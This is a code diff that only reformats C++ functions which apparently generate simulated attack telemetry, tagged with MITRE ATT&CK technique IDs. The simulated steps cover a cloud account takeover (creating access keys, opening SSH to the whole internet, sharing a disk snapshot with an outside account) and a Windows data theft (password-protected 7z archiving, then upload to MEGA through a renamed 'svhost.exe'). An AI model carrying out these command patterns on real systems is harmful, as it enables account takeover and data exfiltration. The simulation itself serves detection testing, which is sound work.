@@ -50,7 +50,8 @@ void takeCloudAccount(Intrusion& at)
             .address = at.controlAddress,
             .agent = agent,
             .response = R"({"ConsoleLogin":"Success"})",
-            .more = R"(,"additionalEventData":{"LoginTo":"https://console.aws.amazon.com/","MobileVersion":"No","MFAUsed":"No"})"});
+            .more
+            = R"(,"additionalEventData":{"LoginTo":"https://console.aws.amazon.com/","MobileVersion":"No","MFAUsed":"No"})"});
     at.r.setAttack({"T1098.001"});
     call(at.r, at.soon(),
         {.source = "iam",
@@ -60,7 +61,8 @@ void takeCloudAccount(Intrusion& at)
             .address = at.controlAddress,
             .agent = agent,
             .parameters = R"({"userName":"deploy-bot"})",
-            .response = R"({"accessKey":{"userName":"deploy-bot","status":"Active","accessKeyId":"AKIAEXAMPLEBOT9"}})"});
+            .response
+            = R"({"accessKey":{"userName":"deploy-bot","status":"Active","accessKeyId":"AKIAEXAMPLEBOT9"}})"});
     at.r.setAttack({"T1098.003"});
     call(at.r, at.soon(),
         {.source = "iam",
@@ -85,9 +87,10 @@ void takeCloudAccount(Intrusion& at)
             .userName = "deploy-bot",
             .role = {},
             .address = at.controlAddress,
-            .parameters = R"({"groupId":"sg-0a1b2c3d","ipPermissions":{"items":[{"ipProtocol":"tcp","fromPort":443,"toPort":443,)"
-                          R"("ipRanges":{"items":[{"cidrIp":"10.20.0.0/16"}]}},{"ipProtocol":"tcp","fromPort":22,"toPort":22,)"
-                          R"("ipRanges":{"items":[{"cidrIp":"0.0.0.0/0"}]}}]}})",
+            .parameters
+            = R"({"groupId":"sg-0a1b2c3d","ipPermissions":{"items":[{"ipProtocol":"tcp","fromPort":443,"toPort":443,)"
+              R"("ipRanges":{"items":[{"cidrIp":"10.20.0.0/16"}]}},{"ipProtocol":"tcp","fromPort":22,"toPort":22,)"
+              R"("ipRanges":{"items":[{"cidrIp":"0.0.0.0/0"}]}}]}})",
             .response = R"({"_return":true})"});
     at.r.setAttack({"T1537"});
     call(at.r, at.soon(),
@@ -96,8 +99,9 @@ void takeCloudAccount(Intrusion& at)
             .userName = "deploy-bot",
             .role = {},
             .address = at.controlAddress,
-            .parameters = R"({"snapshotId":"snap-09f1","attributeType":"CREATE_VOLUME_PERMISSION","createVolumePermission":)"
-                          R"({"add":{"items":[{"userId":"999988887777"}]}}})",
+            .parameters
+            = R"({"snapshotId":"snap-09f1","attributeType":"CREATE_VOLUME_PERMISSION","createVolumePermission":)"
+              R"({"add":{"items":[{"userId":"999988887777"}]}}})",
             .response = R"({"_return":true})"});
 }
 
@@ -111,8 +115,8 @@ void carryOff(Intrusion& at, const Desk& desk, const Process& loader)
     at.r.runScript(at.soon(), loader,
         std::format("Compress-Archive -Path S:\\ -DestinationPath C:\\Users\\Public\\{}.zip", at.fileName));
     static_cast<void>(at.r.start(at.soon(), loader, "C:\\Users\\Public\\7z.exe",
-        std::format("C:\\Users\\Public\\7z.exe a -phidden77 C:\\Users\\Public\\{}.7z C:\\Users\\{}\\Documents", at.fileName,
-            user(*desk.session.user).name)));
+        std::format("C:\\Users\\Public\\7z.exe a -phidden77 C:\\Users\\Public\\{}.7z C:\\Users\\{}\\Documents",
+            at.fileName, user(*desk.session.user).name)));
     at.r.setAttack({"T1567.002"});
     const Process copier = at.r.startRenamed(at.soon(), loader, "C:\\Users\\Public\\svhost.exe",
         std::format("C:\\Users\\Public\\svhost.exe copy C:\\Users\\Public\\{}.7z mega:lark --transfers 8", at.fileName),
